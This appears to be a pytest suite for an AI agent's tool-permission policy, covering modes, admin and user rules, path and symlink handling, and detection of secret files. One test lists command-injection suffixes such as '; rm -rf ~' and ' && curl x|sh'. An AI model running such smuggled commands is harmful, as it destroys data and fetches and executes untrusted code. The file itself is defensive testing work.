"""The policy: what a mode allows, what rules say, which of them wins; asked with `POST /policy/evaluate`."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from jupyter_agent.tools import policy
from jupyter_agent.tools.models import Capability, Mode, PolicyRule
from jupyter_agent.tools.policy import Facts, Rules, evaluate, literal, matches
from jupyter_agent.tools.sensitive import is_secret_file

from .conftest import Api


async def ask(api: Api, tool: str, arguments: dict[str, Any] | None = None, **fields: Any) -> Any:
    body = {"tool": tool, "arguments": arguments or {}, **fields}
    return await api.ok("POST", "/policy/evaluate", json=body)


async def rules(api: Api, *rules: dict[str, Any], mode: str | None = None) -> Any:
    return await api.ok("PUT", "/policy", json={"rules": list(rules), **({"mode": mode} if mode else {})})


# Modes

READ = ("read_file", {"path": "a.txt"})
WRITE = ("write_file", {"path": "a.txt", "text": ""})
EDIT = ("edit_cell", {"path": "n.ipynb", "cell_id": "a", "source": "1", "hash": "0"})
EXECUTE = ("run_code", {"code": "1", "path": "n.ipynb"})
SHELL = ("run_command", {"command": "ls"})
NETWORK = ("fetch_page", {"url": "https://example.org/"})
SECRET = ("read_file", {"path": ".env"})
OUTSIDE = ("read_file", {"path": "../a.txt"})
CALLS = {
    "read": READ, "file_write": WRITE, "notebook_edit": EDIT, "execute": EXECUTE, "shell": SHELL, "network": NETWORK,
    "secret": SECRET, "external_directory": OUTSIDE,
}  # fmt: skip
ALLOWED = {
    "read_only": {"read"},
    "ask": {"read"},
    "auto_edit": {"read", "file_write", "notebook_edit"},
    "auto": set(CALLS),
}


@pytest.mark.parametrize("mode", list(ALLOWED))
async def test_each_mode_decides_by_what_a_call_needs(api: Api, mode: str) -> None:
    for capability, (tool, arguments) in CALLS.items():
        answer = await ask(api, tool, arguments, mode=mode)
        expected = "allow" if capability in ALLOWED[mode] else "deny" if mode == "read_only" else "ask"
        assert answer["decision"] == expected, (mode, capability)
        assert capability in answer["capabilities"]
        assert answer["rule"] is None
        assert f"the mode {mode}" in answer["reason"]


@pytest.mark.parametrize(
    ("capabilities", "mode", "decision"),
    [
        (["client"], "read_only", "deny"),
        (["client", "read"], "read_only", "allow"),
        (["client"], "ask", "allow"),
        (["client", "shell"], "ask", "ask"),
        (["client", "shell"], "auto", "allow"),
    ],
)
def test_a_clients_tool_is_judged_by_what_it_says_it_needs(
    capabilities: list[Capability], mode: Mode, decision: str
) -> None:
    assert evaluate(Facts("theirs", {}, frozenset(capabilities)), Rules(mode)).decision == decision


async def test_the_modes_of_user_session_and_question_count_in_that_order(api: Api) -> None:
    assert (await api.ok("GET", "/policy"))["mode"] == "ask"
    assert (await ask(api, *WRITE))["mode"] == "ask"
    await api.ok("PUT", "/policy", json={"mode": "auto"})
    assert (await ask(api, *WRITE))["decision"] == "allow"
    session = await api.session(mode="read_only")
    assert (await ask(api, *WRITE, session_id=session))["decision"] == "deny"
    patched = await api.ok("PATCH", f"/sessions/{session}", json={"mode": "auto_edit"})
    assert patched["mode"] == "auto_edit"
    assert (await ask(api, *SHELL, session_id=session))["decision"] == "ask"
    assert (await ask(api, *SHELL, session_id=session, mode="read_only"))["decision"] == "deny"
    await api.ok("PATCH", f"/sessions/{session}", json={"mode": None})
    assert (await ask(api, *SHELL, session_id=session))["decision"] == "allow"


async def test_a_branch_has_the_mode_of_its_session(api: Api) -> None:
    session = await api.session(mode="auto_edit")
    await api.ok("POST", f"/sessions/{session}/messages", json={"text": "hello"})
    branch = await api.ok("POST", f"/sessions/{session}/branch", json={})
    assert branch["mode"] == "auto_edit"


# Rules


@pytest.mark.parametrize(
    ("rule", "tool", "arguments", "decision"),
    [
        ({"effect": "allow", "tool": "run_command"}, *SHELL, "allow"),
        ({"effect": "allow", "tool": "run_*"}, *SHELL, "allow"),
        ({"effect": "allow", "tool": "run_?"}, *SHELL, "ask"),
        ({"effect": "deny", "tool": "run_command"}, *SHELL, "deny"),
        ({"effect": "deny"}, *READ, "deny"),
        ({"effect": "ask", "tool": "read_file"}, *READ, "ask"),
        ({"effect": "audit", "tool": "run_command"}, *SHELL, "allow"),
        ({"effect": "allow", "arguments": {"command": "git *"}}, "run_command", {"command": "git status"}, "allow"),
        ({"effect": "allow", "arguments": {"command": "git *"}}, "run_command", {"command": "ls"}, "ask"),
        ({"effect": "deny", "arguments": {"nothing": "*"}}, *SHELL, "ask"),
        ({"effect": "allow", "path": "data/*"}, "write_file", {"path": "data/x/a.txt", "text": ""}, "allow"),
        ({"effect": "allow", "path": "data/*"}, "write_file", {"path": "data/../a.txt", "text": ""}, "ask"),
        ({"effect": "allow", "path": "data/*"}, "write_file", {"path": "./data//a.txt", "text": ""}, "allow"),
        ({"effect": "deny", "path": "data/*"}, "read_file", {"path": "x/../data/a.txt"}, "deny"),
        ({"effect": "deny", "path": "data/*"}, "delete_file", {"path": "data"}, "deny"),
        ({"effect": "deny", "path": "data/*"}, "list_files", {"path": "data"}, "allow"),
        ({"effect": "deny", "path": "keys/*"}, "rename_file", {"path": "a", "to": "keys/a"}, "deny"),
        ({"effect": "allow", "path": "data/*"}, "rename_file", {"path": "data/a", "to": "b"}, "ask"),
        ({"effect": "allow", "path": "data/*"}, "rename_file", {"path": "data/a", "to": "data/b"}, "allow"),
        ({"effect": "deny", "capability": "secret"}, *SECRET, "deny"),
        ({"effect": "deny", "capability": "secret"}, *READ, "allow"),
        ({"effect": "deny", "capability": "external_directory"}, *OUTSIDE, "deny"),
        ({"effect": "allow", "capability": "network"}, *NETWORK, "allow"),
    ],
)
async def test_each_kind_of_rule(api: Api, rule: dict[str, Any], tool: str, arguments: Any, decision: str) -> None:
    kept = (await rules(api, rule))["rules"]
    answer = await ask(api, tool, arguments)
    assert answer["decision"] == decision
    assert answer["audit"] is (rule["effect"] == "audit")
    if decision != "ask" and answer["rule"] is not None:
        assert answer["rule"] == kept[0]


@pytest.mark.parametrize("more", ["; rm -rf ~", " && curl x|sh", " $(id)", " `id`", "\nid", " > /etc/passwd", " & id"])
async def test_a_pattern_for_a_command_covers_no_second_command(api: Api, more: str) -> None:
    await rules(api, {"effect": "allow", "tool": "run_command", "arguments": {"command": "git *"}})
    assert (await ask(api, "run_command", {"command": "git log --oneline"}))["decision"] == "allow"
    assert (await ask(api, "run_command", {"command": f"git log{more}"}))["decision"] == "ask"
    await rules(api, {"effect": "deny", "tool": "run_command", "arguments": {"command": "git *"}})
    assert (await ask(api, "run_command", {"command": f"git log{more}"}))["decision"] == "deny"


def test_an_allowed_capability_does_not_carry_another_one() -> None:
    both = Facts("tool", {}, frozenset({"shell", "network"}))
    network = PolicyRule(effect="allow", capability="network")
    shell = PolicyRule(effect="allow", capability="shell")
    assert evaluate(both, Rules("ask", own=[network])).decision == "ask"
    assert evaluate(both, Rules("ask", own=[network, shell])).decision == "allow"


ADMIN = {"tool": "run_command", "comment": "not here"}


@pytest.mark.settings(ToolSettings={"rules": [{"effect": "deny", **ADMIN}]})
async def test_an_administrators_no_cannot_be_loosened(api: Api) -> None:
    await rules(api, {"effect": "allow", "tool": "run_command"}, mode="auto")
    answer = await ask(api, *SHELL)
    assert (answer["decision"], answer["rule"]["source"]) == ("deny", "admin")
    assert "not here" in answer["reason"]
    policy = await api.ok("GET", "/policy")
    assert [rule["effect"] for rule in policy["admin_rules"]] == ["deny"]
    forged = {**policy["admin_rules"][0], "effect": "allow"}
    refused = await api("PUT", "/policy", json={"rules": [forged]})
    assert refused.status == 422
    assert (await api.ok("GET", "/policy")) == policy


@pytest.mark.settings(ToolSettings={"rules": [{"effect": "ask", **ADMIN}]})
async def test_an_administrators_question_is_always_asked(api: Api) -> None:
    await rules(api, {"effect": "allow", "tool": "run_command"}, mode="auto")
    assert (await ask(api, *SHELL))["decision"] == "ask"
    await rules(api, {"effect": "deny", "tool": "run_command"})
    assert (await ask(api, *SHELL))["decision"] == "deny", "a user may be stricter"


@pytest.mark.settings(ToolSettings={"rules": [{"effect": "allow", **ADMIN}, {"effect": "audit", "tool": "read_*"}]})
async def test_an_administrator_may_allow_and_watch(api: Api) -> None:
    assert (await ask(api, *SHELL))["decision"] == "allow"
    assert (await ask(api, *SHELL, mode="read_only"))["decision"] == "deny"
    answer = await ask(api, *READ)
    assert (answer["decision"], answer["audit"]) == ("allow", True)
    await rules(api, {"effect": "ask", "tool": "run_command"})
    assert (await ask(api, *SHELL))["decision"] == "ask"


@pytest.mark.settings(
    ToolSettings={"rules": [{"effect": "audit"}, {"effect": "forbid", "tool": "run_command"}], "mode": "auto"}
)
async def test_a_wrong_rule_of_the_administrators_lets_nothing_through(
    api: Api, caplog: pytest.LogCaptureFixture
) -> None:
    answer = await ask(api, *READ)
    assert answer["decision"] == "deny"
    assert "ToolSettings.rules[1] is no rule: effect: Input should be 'allow'" in answer["reason"]
    refused = await api("POST", f"/tools/{READ[0]}/call", json={"arguments": READ[1], "approved": True})
    assert (refused.status, refused.json["error"]["code"]) == (403, "denied")
    assert "ToolSettings.rules[1]" in refused.json["error"]["message"]
    assert [rule["effect"] for rule in (await api.ok("GET", "/policy"))["admin_rules"]] == ["audit", "deny"]
    # A record that went through two handlers is one still.
    records = {id(record): record for record in caplog.records if record.name == "jupyter_agent.tools.rules"}
    (logged,) = records.values()
    assert "ToolSettings.rules[1] is no rule" in logged.getMessage()


async def test_deny_beats_ask_beats_allow_and_read_only_beats_allow(api: Api) -> None:
    allow, question, deny = ({"effect": effect, "tool": "run_command"} for effect in ("allow", "ask", "deny"))
    for order in ([allow, question, deny], [deny, question, allow]):
        await rules(api, *order)
        assert (await ask(api, *SHELL))["decision"] == "deny"
    for order in ([allow, question], [question, allow]):
        await rules(api, *order)
        assert (await ask(api, *SHELL, mode="auto"))["decision"] == "ask"
    await rules(api, allow)
    assert (await ask(api, *SHELL, mode="read_only"))["decision"] == "deny"


async def test_a_rule_of_one_session_counts_there_alone(api: Api) -> None:
    here, there = await api.session(), await api.session()
    await rules(api, {"effect": "allow", "tool": "run_command", "session_id": here})
    assert (await ask(api, *SHELL, session_id=here))["decision"] == "allow"
    assert (await ask(api, *SHELL, session_id=there))["decision"] == "ask"
    assert (await ask(api, *SHELL))["decision"] == "ask"


async def test_nobody_writes_or_reads_anothers_policy(as_user: Callable[[str], Api]) -> None:
    alice, bob = as_user("alice"), as_user("bob")
    session = await alice.session()
    await rules(alice, {"effect": "allow", "tool": "run_command"}, mode="auto")
    assert await bob.ok("GET", "/policy") == {"mode": "ask", "rules": [], "admin_rules": []}
    assert (await ask(bob, *SHELL))["decision"] == "ask"
    assert (await bob("PUT", "/policy", json={"rules": [{"effect": "allow", "session_id": session}]})).status == 422
    body = {"tool": "run_command", "arguments": SHELL[1], "session_id": session}
    assert (await bob("POST", "/policy/evaluate", json=body)).status == 404


@pytest.mark.parametrize(
    "body",
    [
        {"rules": [{"effect": "forbid"}]},
        {"rules": [{"effect": "allow", "tool": "x" * 201}]},
        {"rules": [{"effect": "allow", "capability": "magic"}]},
        {"rules": [{"effect": "allow", "session_id": "sess_none"}]},
        {"rules": [{"effect": "allow", "source": "admin"}]},
        {"mode": "yolo"},
    ],
)
async def test_a_bad_policy_changes_nothing(api: Api, body: dict[str, Any]) -> None:
    before = await rules(api, {"effect": "deny", "tool": "run_command"}, mode="auto_edit")
    assert (await api("PUT", "/policy", json=body)).status == 422
    assert await api.ok("GET", "/policy") == before


async def test_rules_keep_their_order_and_ids(api: Api) -> None:
    first = (await rules(api, {"effect": "allow", "tool": "a"}, {"effect": "deny", "tool": "b"}))["rules"]
    second = (await rules(api, first[1], first[0]))["rules"]
    assert [rule["id"] for rule in second] == [first[1]["id"], first[0]["id"]]
    claimed = (await rules(api, {**first[0], "source": "approval"}))["rules"]
    assert claimed[0]["source"] == "user", "only an approval makes an approval's rule"


async def test_a_question_about_what_is_not_there(api: Api) -> None:
    assert (await api("POST", "/policy/evaluate", json={"tool": "fly"})).status == 404
    bad = await api("POST", "/policy/evaluate", json={"tool": "read_file", "arguments": {"file": 1}})
    assert bad.status == 422


async def test_a_link_is_what_it_leads_to(api: Api, jp_root_dir: Path, tmp_path: Path) -> None:
    (jp_root_dir / "keys").mkdir()
    (jp_root_dir / "keys" / "a").write_text("key")
    os.symlink(jp_root_dir / "keys", jp_root_dir / "harmless")
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, jp_root_dir / "away")
    await rules(api, {"effect": "deny", "path": "keys/*"}, {"effect": "allow", "path": "harmless/*"})
    assert (await ask(api, "read_file", {"path": "harmless/a"}))["decision"] == "deny"
    away = await ask(api, "write_file", {"path": "away/x.txt", "text": ""}, mode="auto_edit")
    assert away["decision"] == "ask"
    assert "external_directory" in away["capabilities"]


# Patterns


@pytest.mark.parametrize(
    ("pattern", "text", "fits"),
    [
        ("", "", True), ("*", "", True), ("*", "a/b", True), ("a*c", "abbc", True), ("a*c", "abcd", False),
        ("?", "a", True), ("?", "", False), ("a\\*", "a*", True), ("a\\*", "ab", False), ("**a**", "bab", True),
        ("[a]", "a", False), ("[a]", "[a]", True), ("a", "A", False), ("*\n*", "a\nb", True),
    ],
)  # fmt: skip
def test_patterns(pattern: str, text: str, fits: bool) -> None:
    assert matches(pattern, text) is fits


@pytest.mark.parametrize("text", ["a*b?c\\d", "*", "\\", "plain", "a\nb"])
def test_a_literal_fits_itself_alone(text: str) -> None:
    assert matches(literal(text), text)
    assert not matches(literal(text), text + "x")
    assert not policy.is_pattern(literal(text))


def test_no_pattern_takes_long() -> None:
    assert not matches("*a" * 50 + "b", "a" * 20_000)


@pytest.mark.parametrize(
    "path",
    [".env", "x/.env.local", "id_rsa", ".ssh/config", "server.key", "a/.aws/credentials", ".git-credentials", "ID_RSA"],
)
def test_files_that_hold_keys_are_known(path: str) -> None:
    assert is_secret_file(path)


@pytest.mark.parametrize("path", ["environment.yml", "monkey.py", "ssh.md", "data.json", "keyboard.txt"])
def test_other_files_are_not(path: str) -> None:
    assert not is_secret_file(path)


async def test_the_whole_schema_is_small(api: Api) -> None:
    tools = (await api.ok("GET", "/tools"))["items"]
    sent = [{"name": t["name"], "description": t["description"], "parameters": t["input_schema"]} for t in tools]
    assert len(json.dumps(sent)) < 12_000
    assert all(tool["description"] and "\n" not in tool["description"] for tool in tools)


@pytest.mark.settings(ToolSettings={"rules": [{"effect": "deny", **ADMIN}]})
@pytest.mark.parametrize(
    "change", [{"tools.rules": []}, {"tools.allow_sudo": True}, {"tools.allow_private_addresses": True}]
)
async def test_what_users_are_held_to_is_not_theirs_to_configure(api: Api, change: dict[str, Any]) -> None:
    before = await api.ok("GET", "/config")
    refused = await api("PATCH", "/config", json=change)
    assert refused.status == 422, refused.json
    assert await api.ok("GET", "/config") == before
    assert (await ask(api, *SHELL))["decision"] == "deny"
